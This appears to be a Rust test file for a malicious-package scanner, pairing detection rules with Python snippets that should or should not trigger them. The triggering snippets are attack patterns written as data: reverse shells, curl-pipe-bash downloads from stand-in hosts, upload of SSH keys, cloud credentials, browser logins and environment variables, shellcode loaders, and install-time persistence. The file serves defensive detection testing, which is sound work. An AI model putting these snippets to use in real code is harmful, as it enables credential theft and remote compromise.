//! Examples for the rules about behaviour: what malicious packages do, and ordinary code that looks like it.
//!
//! `@` stands for a word of [`WORDS`], so that no attack lies in a file.

use super::{build, rules_of};

/// A rule, the path of the file, and its source.
pub(super) type Case = (&'static str, &'static str, String);

const WORDS: &[(&str, &[&str])] = &[
    ("@b64", &["base64.b64", "decode"]),
    ("@exec", &["ex", "ec"]),
    ("@eval", &["ev", "al"]),
    ("@open", &["url", "open"]),
    ("@system", &["sys", "tem"]),
    ("@dup", &["du", "p2"]),
    ("@spawn", &["pty.sp", "awn"]),
    ("@tcp", &["/dev/", "tcp"]),
    ("@curl", &["cu", "rl"]),
    ("@pipe", &["| ba", "sh"]),
    ("@alloc", &["Virtual", "Alloc"]),
    ("@thread", &["Create", "Thread"]),
    ("@key", &["id_", "rsa"]),
];

fn case(rule: &'static str, path: &'static str, source: &str) -> Case {
    let source = WORDS.iter().fold(source.to_owned(), |source, (word, parts)| source.replace(word, &build(parts)));
    (rule, path, source)
}

pub(super) fn fires() -> Vec<Case> {
    let lib = "pkg/a.py";
    let init = "pkg/__init__.py";
    let setup = "pkg-1.0/setup.py";
    let hidden = format!("x = 1;{}import os", " ".repeat(150));
    let bidi = "# check \u{202e} } if is_admin( \u{2066} begin\nx = 1\n";
    let webhook = format!("URL = 'https://discord.com/api/webhooks/{}/{}'", "1".repeat(18), "a".repeat(68));
    let bot = format!("TOKEN = '123456789:AA{}'", "b".repeat(33));
    let escaped: String = "import os; os.getcwd()".bytes().map(|byte| format!("\\x{byte:02x}")).collect();
    vec![
        case("obfuscated-exec", lib, "import base64\n@exec(@b64('aW1wb3J0IG9z'))"),
        case("obfuscated-exec", lib, "from base64 import b64decode as d\ncode = d(blob)\ntext = code.decode()\n@exec(text)"),
        case("obfuscated-exec", lib, "import zlib, marshal\n@exec(marshal.loads(zlib.decompress(b'x')))"),
        case("obfuscated-exec", lib, "_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\n@exec((_)(b'abc'))"),
        case("obfuscated-exec", lib, "def d(s, k):\n    return ''.join(chr(ord(c) ^ k) for c in s)\n@eval(compile(d(x, 7), 'a', 'exec'))"),
        case("obfuscated-exec", lib, "@exec(bytes.fromhex('70617373').decode())"),
        case("obfuscated-exec", lib, "import codecs\n@exec(codecs.decode('cevag(1)', 'rot13'))"),
        case("obfuscated-exec", lib, "from cryptography.fernet import Fernet\n@exec(Fernet(k).decrypt(b'x'))"),
        case("obfuscated-exec", lib, "@exec(''.join(map(chr, [112, 97, 115, 115])))"),
        case("obfuscated-exec", lib, "@exec(bytes([112, 97, 115, 115]))"),
        case("obfuscated-exec", lib, "@exec(')1(tnirp'[::-1])"),
        case("obfuscated-exec", lib, "import base64\ngetattr(__builtins__, '@exec')(@b64(x))"),
        case("obfuscated-exec", lib, "import base64, builtins\nbuiltins.__dict__['@ex' + 'ec'](@b64(x))".replace("@ex'", "ex'").as_str()),
        case("obfuscated-exec", lib, "import base64\ne = @exec\ndef run(c):\n    e(c)\nrun(@b64(x))"),
        case("obfuscated-exec", lib, "import base64, threading\nthreading.Thread(target=@exec, args=(@b64(x),)).start()"),
        case("obfuscated-exec", lib, "import base64\nclass A:\n    def __init__(self):\n        self.c = @b64(x)\n    def go(self):\n        @exec(self.c)"),
        case("obfuscated-exec", lib, "@exec(\"import base64\\n@exec(@b64('x'))\")"),
        case("obfuscated-exec", lib, &format!("@exec(\"{escaped}\")")),
        case("obfuscated-exec", lib, "import base64\n\u{1d4ee}xec(@b64(x))"),
        case("obfuscated-exec", lib, "import base64, subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import base64;@exec(@b64(1))'])"),
        case("obfuscated-exec", lib, "import base64, types\ntypes.FunctionType(__import__('marshal').loads(b'x'), {})()"),
        case("downloaded-exec", lib, "import requests\n@exec(requests.get(url).text)"),
        case("downloaded-exec", lib, "from urllib import request\nr = request.@open(url)\ncode = r.read().decode('utf8')\n@exec(code)"),
        case("downloaded-exec", lib, "try:\n    from urllib2 import @open\nexcept ImportError:\n    from urllib.request import @open\n@eval(compile(@open(u).read(), 'x', 'exec'))"),
        case("downloaded-exec", lib, "import requests as q\ns = q.Session()\nwith s.get(u) as r:\n    for line in r.iter_lines():\n        @exec(line)"),
        case("downloaded-exec", lib, "import socket\ns = socket.socket()\ns.connect((h, 1))\n@exec(s.recv(1024))"),
        case("downloaded-exec", lib, "import urllib.request\nurllib.request.urlretrieve(u, 'p.py')\n@exec(open('p.py').read())"),
        case("downloaded-exec", lib, "@exec(__import__('requests').get('https://host.example/x').text)"),
        case("downloaded-exec", lib, "import aiohttp\nasync def f():\n    async with aiohttp.ClientSession() as s:\n        async with s.get(u) as r:\n            @exec(await r.text())"),
        case("downloaded-exec", lib, "import requests\ndef f(u):\n    @exec(requests.get(u).text)\ndef g(u):\n    f(u)\ng('https://host.example/x')"),
        case("downloaded-exec", lib, "import requests, config\ndef f(u):\n    @exec(requests.get(u).text)\nf(config.address)"),
        case("downloaded-exec", setup, "import requests\ndef f(u):\n    @exec(requests.get(u).text)"),
        case("remote-code", lib, "import requests\ndef f(u):\n    @exec(requests.get(u).text)"),
        case("remote-code", lib, "import urllib.request, subprocess\ndef f(u):\n    urllib.request.urlretrieve(u, 'a')\n    subprocess.run(['a'])"),
        case("obfuscated-exec", lib, "import base64\ndef run(p):\n    @exec(@b64(p))\nrun('aW1wb3J0IG9z')"),
        case("obfuscated-exec", lib, "import base64\ndef run(p):\n    @exec(@b64(p))\nrun(open('x').read())"),
        case("obfuscated-exec", lib, "import base64\nblob = '{}'\n@exec(@b64(blob))"),
        case("obfuscated-exec", lib, "import base64, functools\nfunctools.partial(@exec, @b64(x))()"),
        case("obfuscated-exec", lib, "import base64\n@@exec\n@lambda f: @b64(x)\ndef f(): pass"),
        case("downloaded-exec", init, "import tempfile, os\nt = tempfile.NamedTemporaryFile(delete=False)\nt.write(b\"from urllib.request import @open as u;@exec(u('http://host.example').read())\")\nt.close()\nos.@system(t.name)"),
        case("credential-exfiltration", lib, "import glob, os, requests\nfor f in glob.glob(os.path.expanduser('~/.ssh/*')):\n    requests.post(u, files={'f': open(f, 'rb')})"),
        case("credential-exfiltration", lib, "import os, re, json\nfrom urllib.request import Request, urlopen\ndef find(path):\n    path += '\\\\Local Storage\\\\leveldb'\n    found = []\n    for name in os.listdir(path):\n        for line in open(f'{path}\\\\{name}').readlines():\n            found.append(re.findall(r'x', line))\n    return found\nurlopen(Request(u, data=json.dumps({'c': find(p)}).encode()))"),
        case("environment-exfiltration", lib, "import os, base64, requests\ns = ''\nfor _, v in os.environ.items():\n    s += v + ' '\nm = base64.b64encode(s.encode()).decode()\nrequests.get('https://host.example/' + m)"),
        case("decoded-code", lib, "import base64\ndef run(p):\n    @exec(@b64(p))"),
        case("obfuscated-command", lib, "import base64, os\nos.@system(@b64(x).decode())"),
        case("obfuscated-command", lib, "import subprocess\nsubprocess.run('powershell -WindowStyle Hidden -EncodedCommand ' + 'A' * 40, shell=True)"),
        case("remote-command", lib, "import socket, subprocess\ns = socket.socket()\nc = s.recv(99).decode()\nsubprocess.Popen(c, shell=True)"),
        case("remote-command", lib, "import os, requests\nos.popen(requests.get(u).text)"),
        case("download-execute", lib, "import os, urllib.request\np = os.path.join(t, 'a.exe')\nurllib.request.urlretrieve(u, p)\nos.startfile(p)"),
        case("download-execute", lib, "import requests, subprocess\ndef f():\n    r = requests.get(u)\n    with open('b.exe', 'wb') as f:\n        f.write(r.content)\n    subprocess.Popen('b.exe')"),
        case("download-execute", lib, "import requests, subprocess, sys\nopen(path, 'wb').write(requests.get(u).content)\nsubprocess.call([sys.executable, path])"),
        case("shell-download-execute", lib, "import os\nos.@system('@curl -s https://host.example/x @pipe')"),
        case("shell-download-execute", lib, "import subprocess\nu = 'https://host.example'\nsubprocess.run(['sh', '-c', f'@curl {u}/x @pipe'])"),
        case("shell-download-execute", lib, "import os\nos.popen(\"powershell -c \\\"iex(New-Object Net.WebClient).DownloadString('https://host.example')\\\"\")"),
        case("reverse-shell", lib, "import os\nos.@system('bash -i >& @tcp/10.0.0.1/4444 0>&1')"),
        case("reverse-shell", lib, "import socket, os, pty\ns = socket.socket()\ns.connect((h, 1))\nfor n in (0, 1, 2):\n    os.@dup(s.fileno(), n)\n@spawn('/bin/sh')"),
        case("reverse-shell", lib, "import socket, subprocess\ns = socket.create_connection((h, 1))\nsubprocess.Popen(['x'], stdin=s, stdout=s)"),
        case("credential-exfiltration", lib, "import os, requests\nk = open(os.path.expanduser('~/.ssh/@key')).read()\nrequests.post(u, data={'k': k})"),
        case("credential-exfiltration", lib, "from pathlib import Path\nimport urllib.request\nd = (Path.home() / '.aws' / 'credentials').read_text()\nurllib.request.@open(u, data=d.encode())"),
        case("environment-exfiltration", lib, "import os, requests, json\nrequests.post(u, data=json.dumps(dict(os.environ)))"),
        case("environment-exfiltration", lib, "from os import environ as e\nimport httpx\nbody = {}\nfor k, v in e.items():\n    body[k] = v\nhttpx.post(u, json=body)"),
        case("exfiltration-endpoint", lib, &webhook),
        case("exfiltration-endpoint", lib, &format!("import x\n{bot}")),
        case("exfiltration-endpoint", lib, "import requests\nrequests.get('https://abc123.oastify.com/x')"),
        case("shellcode-loader", lib, &format!("import ctypes\nb = b'{}'\nk = ctypes.windll.kernel32\np = k.@alloc(0, n, 0x3000, 0x40)\nk.@thread(0, 0, p, 0, 0, 0)", "\\xfc\\x48".repeat(30))),
        case("shellcode-loader", lib, "import ctypes, requests\nb = requests.get(u).content\nk = ctypes.windll.kernel32\np = k.@alloc(0, n, 0x3000, 0x40)\nk.@thread(0, 0, p, 0, 0, 0)"),
        case("runtime-machine-code", lib, "from ctypes import windll\nA = windll.kernel32.@alloc\nB = windll.kernel32.@thread"),
        case("runtime-machine-code", lib, "import ctypes, mmap\nm = mmap.mmap(-1, 9, prot=mmap.PROT_EXEC)\nctypes.CFUNCTYPE(None)(0)"),
        case("clipboard-hijack", lib, "import pyperclip, re\nif re.match('^bc1[a-z0-9]+', pyperclip.paste()):\n    pyperclip.copy(mine)"),
        case("hidden-code", lib, &hidden),
        case("bidi-control", lib, bidi),
        case("homoglyph-identifier", lib, "def submit(x): pass\ndef subm\u{456}t(x): pass\n"),
        case("homoglyph-identifier", lib, "\u{ff45}\u{ff56}al(x)\n"),
        case("hidden-name", lib, "import base64\n__import__(@b64('b3M=').decode())"),
        case("hidden-name", lib, "import os\ngetattr(os, 'metsys'[::-1])(x)"),
        case("hidden-name", lib, "import sys\nsys.modules[bytes.fromhex('6f73').decode()]"),
        case("packed-code", lib, "from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'x')"),
        case("packed-code", lib, "from .pytransform import pyarmor_runtime\npyarmor_runtime()"),
        case("install-time-network", setup, "from setuptools import setup\nimport urllib.request\ndef f():\n    urllib.request.@open('https://host.example')\nsetup()"),
        case("install-time-network", setup, "import os\nos.@system('wget https://host.example/x')"),
        case("install-time-network", setup, "import socket\nsocket.socket().connect((h, 1))"),
        case("install-time-network", setup, "import socket, getpass\nsocket.gethostbyname(f'{getpass.getuser()}.host.example')"),
        case("install-time-process", setup, "import subprocess\nsubprocess.check_output(['git', 'describe'])"),
        case("install-time-exec", setup, "exec(open('pkg/version.py').read())"),
        case("install-time-command", setup, "from setuptools import setup\nsetup(cmdclass={'install': I})"),
        case("install-time-credentials", setup, "import os\nopen(os.path.expanduser('~/.ssh/@key'))"),
        case("install-time-persistence", setup, "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')"),
        case("import-time-network", init, "import requests\nrequests.post('https://host.example', json={})"),
        case("import-time-network", init, "import requests\ndef f():\n    g()\ndef g():\n    requests.get(u)\nf()"),
        case("import-time-network", init, "import threading, requests\ndef f():\n    requests.get(u)\nthreading.Thread(target=f).start()"),
        case("import-time-network", "six.py", "import requests\nclass A:\n    def __init__(self):\n        self.go()\n    def go(self):\n        requests.get(u)\nA()"),
        case("import-time-network", lib, "import requests, socket\nrequests.get(u + socket.gethostname())"),
        case("import-time-network", lib, "import requests\nrequests.post(u, data=x)"),
        case("module-time-network", lib, "import requests\nx = requests.get(u)"),
        case("import-time-process", init, "import subprocess\nsubprocess.run(['x'])"),
        case("pth-import", "a.pth", "import a\n"),
        case("pth-code", "a.pth", "import os; os.environ['A'] = '1'\n"),
        case("pth-dangerous-code", "a.pth", "/some/path\nimport os; os.@system('x')\n"),
        case("pth-dangerous-code", "a.pth", "import base64; @exec(@b64('x'))\n"),
        case("downloaded-exec", lib, "import json\nfrom urllib.request import @open\n@exec(json.load(@open('https://host.example/c'))['x'])"),
        case("downloaded-exec", lib, "import subprocess\n@exec(subprocess.check_output(['@curl', '-s', 'https://host.example/s']))"),
        case("downloaded-exec", lib, "import os\ndef f():\n    @exec(os.popen('@curl -s https://host.example/s').read())"),
        case("downloaded-exec", lib, "import asyncio\nasync def f():\n    r, w = await asyncio.open_connection(h, 80)\n    @exec(await r.read())"),
        case("downloaded-exec", lib, "import multiprocessing.connection as c\n@exec(c.Client(('host.example', 6000)).recv())"),
        case("download-execute", lib, "import ctypes, requests\ndef f():\n    open('/tmp/l.so', 'wb').write(requests.get('https://host.example/l.so').content)\n    ctypes.CDLL('/tmp/l.so')"),
        case("download-execute", lib, "import os, requests, sys\nd = os.path.expanduser('~/.cache/u')\nopen(os.path.join(d, 'plug.py'), 'w').write(requests.get(u).text)\nsys.path.insert(0, d)\nimport plug"),
        case("download-execute", lib, "import io, requests, sys, zipfile\nzipfile.ZipFile(io.BytesIO(requests.get(u).content)).extractall('/tmp/p')\nsys.path.append('/tmp/p')"),
        case("download-execute", lib, "import os\nos.@system('wget -q https://host.example/m -O /tmp/.m')\nos.@system('/tmp/.m &')"),
        case("download-execute", lib, "import subprocess\nsubprocess.run(['@curl', '-so', '/tmp/.m', 'https://host.example/m'])\nsubprocess.run(['bash', '/tmp/.m'])"),
        case("download-execute", lib, "import os\nos.@system('wget https://host.example/i.sh; bash i.sh')"),
        case("downloaded-pickle", lib, "import pickle, requests\npickle.loads(requests.get('https://host.example/m').content)"),
        case("downloaded-pickle", lib, "import joblib, urllib.request\nurllib.request.urlretrieve('https://host.example/m', '/tmp/m')\njoblib.load('/tmp/m')"),
        case("package-from-index", lib, "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '-q', 'a', '--index-url', 'https://host.example/simple'])"),
        case("package-from-address", lib, "import subprocess\nsubprocess.run('pip install https://host.example/a.tar.gz', shell=True)"),
        case("import-time-network", lib, "import subprocess\nsubprocess.run('pip install https://host.example/a.tar.gz', shell=True)"),
        case("pickle-command", lib, "import os\nclass A:\n    def __reduce__(self):\n        return os.@system, ('x',)"),
        case("shell-download-execute", lib, "import os\nlist(map(os.@system, ['@curl -s https://host.example/x @pipe']))"),
        case("shell-download-execute", lib, "import os, functools\nfunctools.partial(os.@system, '@curl -s https://host.example/x @pipe')()"),
        case("shell-download-execute", lib, "import os\nclass K:\n    c = '@curl -s https://host.example/x @pipe'\n    f = staticmethod(os.@system)\nK.f(K.c)"),
        case("shell-download-execute", lib, "import ctypes\nctypes.CDLL(None).@system(b'@curl -s https://host.example/x @pipe')"),
        case("environment-exfiltration", lib, "import os, requests\nd = {}\nfor k in os.environ: d[k] = os.environ[k]\nrequests.post(u, json=d)"),
        case("environment-exfiltration", lib, "import requests\nrequests.post(u, data=open('/proc/self/environ').read())"),
        case("environment-exfiltration", lib, "import requests, subprocess\nrequests.post(u, data=subprocess.check_output('env'))"),
        case("environment-exfiltration", lib, "import os\nos.@system('env | @curl -s -d @- https://host.example/e')"),
        case("credential-exfiltration", lib, "import os\nos.@system('@curl -s -F f=@$HOME/.aws/credentials https://host.example/e')"),
        case("credential-exfiltration", lib, "import os, requests, sqlite3, shutil\ndb = os.getenv('LOCALAPPDATA') + '\\\\Google\\\\Chrome\\\\Login Data'\nshutil.copy2(db, 't.db')\nc = sqlite3.connect('t.db').cursor()\nc.execute('select 1')\nrequests.post(u, json=c.fetchall())"),
        case("credential-exfiltration", lib, "import requests\nrequests.post(u, data=open('/var/run/secrets/kubernetes.io/serviceaccount/token').read())"),
        case("credential-exfiltration", lib, "import os, requests\nrequests.post(u, data=open(os.path.expanduser('~/.kaggle/kaggle.json')).read())"),
        case("exfiltration-endpoint", lib, &format!("B = '1234567890'\nT = 'AA{}'\nu = 'https://api.telegram.org/bot' + B + ':' + T + '/x'", "b".repeat(33))),
        case("install-time-network", setup, "import pip\npip.main(['install', 'a'])"),
        case("install-time-network", setup, "import runpy\nrunpy.run_module('pip', run_name='x')"),
        case("install-time-persistence", setup, "import os\nopen(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write('x')"),
        case("install-time-persistence", setup, "import os, site\nopen(os.path.join(site.getsitepackages()[0], 'z.pth'), 'w').write('x')"),
        case("install-time-persistence", init, "import os\nopen(os.path.expanduser('~/.config/pip/pip.conf'), 'w').write('x')"),
        case("data-file-exec", init, "import os\n@exec(open(os.path.join(os.path.dirname(__file__), 'data.txt')).read())"),
        case("data-file-exec", init, "from importlib import resources\n@exec(resources.files(__name__).joinpath('VERSION').read_text())"),
        case("data-file-exec", init, "import os\nfrom importlib.machinery import SourceFileLoader\nSourceFileLoader('c', os.path.join(os.path.dirname(__file__), 'c.dat')).load_module()"),
        case("module-time-network", init, "import socket\nsocket.create_connection(address=('192.0.2.1', 80), timeout=2.0).close()"),
        case("pth-import", "a.pth", "import os; @exec('try: __import__(\"a\").b() if os.environ.get(\"X\") else None\\nexcept ImportError: pass')\n"),
        case("pth-dangerous-code", "a.pth", "import a; @exec('@exec(a.code)')\n"),
        case("startup-module", "sitecustomize.py", "x = 1"),
        case("startup-module", "pkg-1.0.data/purelib/usercustomize.py", "x = 1"),
    ]
    .into_iter()
    .chain(super::notebooks::fires())
    .chain(super::files::fires())
    .chain(super::literals::fires())
    .collect()
}

pub(super) fn silent() -> Vec<Case> {
    let lib = "pkg/a.py";
    let init = "pkg/__init__.py";
    let setup = "pkg-1.0/setup.py";
    let far = format!("x = 1{}# comment\ny = '{}'\n", " ".repeat(200), " ".repeat(200));
    vec![
        case("obfuscated-exec", lib, "import base64\nx = @b64(y)\n@exec('a = %s' % b)"),
        case("obfuscated-exec", lib, "template = 'class {name}: pass'\n@exec(template.format(name=name), namespace)"),
        case("obfuscated-exec", lib, "import re, zlib\nre.compile(x)\nmodel.eval()\nzlib.decompress(y)"),
        case("obfuscated-exec", lib, "import marshal\nwith open(p, 'rb') as f:\n    @exec(marshal.load(f))"),
        case("obfuscated-exec", lib, "with open(p) as f:\n    @exec(compile(f.read(), p, 'exec'), globals())"),
        case("obfuscated-exec", lib, "import subprocess, sys\nscript = '; '.join(['import sys', 'script = sys.stdin.read()', '@exec(script)'])\nsubprocess.Popen([sys.executable, '-c', script])"),
        case("downloaded-exec", lib, "import requests\nr = requests.get(url)\n@exec(source)"),
        case("downloaded-exec", lib, "import requests, json\njson.loads(requests.get(url).text)"),
        case("downloaded-exec", lib, "import requests\ndef f(u):\n    @exec(requests.get(u).text)"),
        case("remote-code", lib, "import requests\ndef f(u):\n    return requests.get(u).text"),
        case("import-time-network", init, "import urllib.request\ndef f(p):\n    if is_url(p):\n        return urllib.request.@open(p)\n    return open(p)\nf(here / 'defaults')"),
        case("obfuscated-exec", lib, "names = sorted(n)[::-1]\n@exec('x = %s' % names)\nflags = a ^ b\n@eval(flags)"),
        case("obfuscated-command", lib, "import subprocess, base64\nsubprocess.run(['echo', @b64(x)])"),
        case("remote-command", lib, "import subprocess, requests\nv = requests.get(u).json()['version']\nsubprocess.run(['echo', v])\nsubprocess.run(f'echo {v}', shell=True)"),
        case("download-execute", lib, "import subprocess, urllib.request\nurllib.request.urlretrieve(u, 'a.tgz')\nsubprocess.run(['tar', 'xf', 'a.tgz'])"),
        case("shell-download-execute", lib, "import os\nos.@system('@curl -O https://host.example/data.csv')"),
        case("reverse-shell", lib, "import socket, subprocess\ns = socket.socket()\nsubprocess.Popen(['x'], stdin=subprocess.PIPE)"),
        case("credential-exfiltration", lib, "import os, requests\nnetrc = os.path.expanduser('~/.netrc')\nrequests.post(u, data=x)"),
        case("environment-exfiltration", lib, "import os, requests, subprocess\nrequests.get(u, headers={'k': os.environ['KEY']})\nrequests.get(u, params=os.environ.get('X'))\nsubprocess.run(x, env=dict(os.environ))"),
        case("exfiltration-endpoint", lib, "URL = 'https://discord.com/api/webhooks/{id}/{token}'\nB = 'https://api.telegram.org/bot{}/send'"),
        case("decoded-code", lib, "import base64\ndef run(p):\n    return @b64(p)"),
        case("obfuscated-exec", lib, "import base64, marshal, types\ndef load(p):\n    return types.FunctionType(marshal.loads(@b64(p)), globals())"),
        case("shellcode-loader", lib, "from ctypes import windll\nA = windll.kernel32.@alloc\nB = windll.kernel32.@thread"),
        case("shellcode-loader", lib, "import ctypes\nctypes.CDLL('libm.so.6').cos"),
        case("runtime-machine-code", lib, "import mmap\nmmap.mmap(f.fileno(), 0, prot=mmap.PROT_READ)"),
        case("clipboard-hijack", lib, "import pyperclip\npyperclip.copy(pyperclip.paste().strip())"),
        case("hidden-code", lib, &far),
        case("bidi-control", lib, "x = [\n    r'\u{2066}test\u{2067}',\n    '\u{202a}\u{202b}',\n]\n"),
        case("bidi-control", lib, "# \u{2067}שלום\u{2069} text\nx = '\u{200f}'\n"),
        case("homoglyph-identifier", lib, "\u{3b1} = 1\n\u{394}x = \u{3b1}\nimport os\nприме\u{440} = 2\n"),
        case("hidden-name", lib, "import os\ngetattr(os, name)()\ngetattr(os, 'sys' + 'tem')\n__import__(name)"),
        case("deceptive-encoding", lib, "# coding: latin-1\nx = 1"),
        case("packed-code", lib, "import pyarmor"),
        case("install-time-network", setup, "from setuptools import setup\nsetup(url='https://host.example', download_url=u)"),
        case("install-time-process", setup, "from setuptools import setup\nsetup()"),
        case("install-time-exec", setup, "exec('x = 1')"),
        case("install-time-command", setup, "from setuptools import setup\nsetup(name='a')"),
        case("install-time-credentials", setup, "open('README.md').read()"),
        case("install-time-persistence", setup, "open('build.log', 'w').write('x')"),
        case("import-time-network", init, "import requests\ndef f():\n    requests.get(u)\nif __name__ == '__main__':\n    f()"),
        case("import-time-network", lib, "import requests\nrequests.get(u)"),
        case("import-time-network", init, "import socket\nsocket.socket().connect(('127.0.0.1', port))"),
        case("import-time-network", init, "import requests\nfrom airflow.decorators import task\n@task\ndef f():\n    requests.get(u)\nf()"),
        case("module-time-network", lib, "import requests\ndef f():\n    requests.get(u)"),
        case("import-time-network", "pkg/tests/test_a.py", "import requests\nrequests.get(u)"),
        case("import-time-process", init, "import subprocess\ndef f():\n    subprocess.run(['x'])"),
        case("pth-import", "a.pth", "# comment\nsrc\n"),
        case("pth-code", "a.pth", "../src\nimportant\n"),
        case("pth-dangerous-code", "a.pth", "import a; a.b()\n"),
        case("downloaded-exec", lib, "import subprocess\nfrom urllib import request\ndef get(u, f):\n    subprocess.run(['@curl', '-#', u, '-o', f], check=True)\n    with request.@open(u) as r, open(f, 'wb') as o:\n        o.write(r.read())\n    subprocess.run(['@curl', '-L', u, '-o', f])\ndef load():\n    get('https://host.example/w.pt', 'w.pt')"),
        case("download-execute", lib, "import os, subprocess\nsubprocess.run(['@curl', '-o', '/tmp/a.zip', 'https://host.example/a.zip'])\nsubprocess.run(['unzip', '/tmp/a.zip'])\nos.@system('wget -O /dev/null https://host.example/a; ls /dev/null')"),
        case("downloaded-pickle", lib, "import pickle, requests\nx = requests.get(u).json()\npickle.load(open('model.pkl', 'rb'))"),
        case("downloaded-pickle", lib, "import pickle, socket\ns = socket.create_connection((h, 1))\npickle.loads(s.recv(99))"),
        case("package-from-index", lib, "import subprocess\ndef f():\n    subprocess.run(['pip', 'install', 'https://host.example/a.whl'])"),
        case("package-from-address", lib, "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'a'])\nsubprocess.run(['pip', 'install', '--proxy', p, '-r', 'requirements.txt'])"),
        case("pickle-command", lib, "import subprocess\nclass A:\n    def __reduce__(self):\n        return A, (self.x,)\n    def f(self):\n        return subprocess.run, (1,)"),
        case("data-file-exec", init, "import os\nhere = os.path.dirname(__file__)\n@exec(open(os.path.join(here, 'version.py')).read())\nx = open(os.path.join(here, 'VERSION')).read()\ndef f():\n    @exec(open(os.path.join(here, 'data.txt')).read())"),
        case("import-time-network", init, "import socket\nwith socket.create_connection(('192.0.2.1', 80)):\n    online = True"),
        case("environment-exfiltration", lib, "import os, requests\nfor k in ('A', 'B'):\n    requests.post(u, json={k: os.environ[k]})"),
        case("credential-exfiltration", lib, "import requests\nt = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\nrequests.get(u, headers={'Authorization': f'Bearer {t}'})"),
        case("credential-exfiltration", lib, "import requests, shutil\nshutil.copy2('a.db', 't.db')\nrequests.post(u, data=open('t.db').read())\nrequests.get(u, cert='client.pem')"),
        case("pth-dangerous-code", "a.pth", "import sys; @exec('try:\\n    import a\\nexcept ImportError:\\n    pass\\nelse:\\n    a.register()\\n')\n"),
        case("pth-code", "a.pth", "import os; os.environ.get('X', None) and __import__('a')\n"),
        case("startup-module", "pkg/sitecustomize.py", "x = 1"),
    ]
    .into_iter()
    .chain(super::notebooks::silent())
    .chain(super::literals::silent())
    .collect()
}

#[test]
fn each_rule_fires_on_its_examples() {
    let mut wrong = String::new();
    for (id, path, source) in fires().into_iter().filter(|(id, ..)| *id != "deceptive-encoding") {
        let rules = rules_of(path, &source);
        if !rules.contains(id) {
            wrong += &format!("{id} does not fire on {path}\n{source}\n{rules:?}\n\n");
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
}

#[test]
fn each_rule_stays_silent_on_its_examples() {
    let mut wrong = String::new();
    for (id, path, source) in silent() {
        if rules_of(path, &source).contains(id) {
            wrong += &format!("{id} fires on {path}\n{source}\n\n");
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
}
